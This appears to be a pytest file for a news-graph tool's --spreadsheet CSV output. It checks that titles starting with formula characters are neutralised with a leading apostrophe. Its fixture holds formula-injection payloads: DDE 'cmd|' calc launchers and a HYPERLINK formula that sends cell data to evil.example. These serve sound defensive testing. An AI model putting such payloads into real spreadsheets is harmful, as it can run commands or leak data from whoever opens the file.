"""``--spreadsheet``: a table that Excel and LibreOffice open as it is, and run nothing out of."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from newsgraph.api import build, query, rank, read

from .conftest import Command

TITLES = {
    "=cmd|'/c calc'!A1": "'=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")': (
        '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
    ),
    "+1-800 numbers are back": "'+1-800 numbers are back",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "Up; =1+1": "Up;' =1+1",
    'Says, "no"': 'Says, "no"',
    "\u202e日本 é": "\u202e日本 é",
}
HEADLINES = "SELECT ?t ?n ?url { ?a schema:headline ?t ; ng:timesListed ?l ; schema:url ?url BIND(?l - 3 AS ?n) }"


@pytest.fixture(autouse=True)
def posts(folder: Path) -> Path:
    """Return a folder of posts whose titles are formulas."""
    place = folder / "posts"
    place.mkdir()
    for number, title in enumerate(TITLES):
        head = f"title: {json.dumps(title)}\nwebUrl: https://p{number}.example/x\n"
        (place / f"{number}.md").write_text(f"---\n{head}---\n")
    return place


def rows_in(text: str) -> list[list[str]]:
    """Return the rows of a file as a spreadsheet reads it."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_titles_are_no_formulas_and_numbers_stay_numbers(newsgraph: Command) -> None:
    code, out, err = newsgraph("query", HEADLINES, "posts", "--spreadsheet")
    assert (code, err) == (0, "")
    header, *rows = rows_in(out)
    assert header == ["t", "n", "url"]
    assert {row[0] for row in rows} == set(TITLES.values())
    assert {row[1] for row in rows} == {"-3"}


def test_without_it_csv_is_that_of_the_w3c(newsgraph: Command) -> None:
    out = newsgraph("query", HEADLINES, "posts").out
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[0] == ["t", "n", "url"]
    assert {row[0] for row in rows[1:]} == set(TITLES)


@pytest.mark.parametrize(
    "arguments",
    [
        ["query", HEADLINES],
        ["query", "hidden-articles"],
        ["clusters"],
        ["clusters", "--members"],
        ["rank"],
        ["rank", "--by", "cluster"],
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("where", [[], ["-f", "csv"], ["-o", "a.csv"], ["-f", "csv", "-o", "a"]])
def test_each_verb_of_tables_writes_one(
    arguments: list[str], where: list[str], newsgraph: Command, folder: Path
) -> None:
    code, out, _ = newsgraph(*arguments, "posts", "--spreadsheet", *where)
    assert code == 0
    text = (folder / where[-1]).read_bytes().decode() if "-o" in where else out
    plain = newsgraph(*arguments, "posts").out
    assert rows_in(text)[0] == next(csv.reader(io.StringIO(plain, newline="")))
    cells = [cell for row in rows_in(text)[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] in (
        [],
        ["-3"] * len(TITLES),
    )


@pytest.mark.parametrize("verb", [["query", HEADLINES], ["clusters"], ["rank"]])
@pytest.mark.parametrize(
    "options", [["-f", one] for one in ("table", "tsv", "json", "xml", "ttl")] + [["-o", "a.tsv"]]
)
def test_it_is_refused_for_any_other_format(
    verb: list[str], options: list[str], newsgraph: Command
) -> None:
    code, out, err = newsgraph(*verb, "absent/graph", "--spreadsheet", *options)
    name = options[1].removeprefix("a.")
    assert (code, out) == (2, "")
    assert err == f"newsgraph: --spreadsheet is for csv, not for '{name}': ask for one of them\n"


def test_it_is_refused_for_triples(newsgraph: Command) -> None:
    triples = "CONSTRUCT WHERE { ?s ?p ?o }"
    code, out, err = newsgraph("query", triples, "absent/graph", "--spreadsheet")
    assert (code, out) == (2, "")
    assert err == "newsgraph: 'csv' can't hold triples: ask for ttl, nt, rdf\n"


def test_a_truth_is_a_cell(newsgraph: Command) -> None:
    out = newsgraph("query", "ASK {}", "seeds", "--spreadsheet", on_terminal=False).out
    assert rows_in(out) == [["answer"], ["true"]]


def test_python_writes_the_same(newsgraph: Command) -> None:
    graph = build(read("posts"))
    out = newsgraph("query", HEADLINES, "posts", "--spreadsheet").out
    assert sorted(rows_in(query(graph, HEADLINES).to_spreadsheet())) == sorted(rows_in(out))
    out = newsgraph("rank", "posts", "--spreadsheet").out
    assert rank(graph, top=10).to_spreadsheet() == out
